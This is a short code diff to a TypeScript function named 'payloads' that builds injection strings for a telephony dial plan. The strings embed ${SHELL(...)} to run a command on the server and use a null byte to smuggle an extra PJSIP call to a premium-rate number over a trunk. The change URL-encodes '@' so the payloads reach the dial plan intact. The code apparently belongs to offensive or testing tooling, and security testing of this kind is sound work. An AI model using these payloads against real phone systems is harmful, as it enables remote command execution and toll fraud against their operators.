@@ -22,7 +22,8 @@ function payloads({ accounts, trunk }: Target): string[] {
     `$%7BSHELL(touch%20${mark})%7D`,
     `${extension}$%7BSHELL(touch%20${mark})%7D`,
     `${extension}%00&PJSIP/${premium}@${trunk}`,
-  ];
+    // Two bare @ are no SIP address: escaped, they come to the dial plan as they are meant.
+  ].map((payload) => payload.replaceAll("@", "%40"));
 }
 
 /** Dials addresses that are more than a number. */
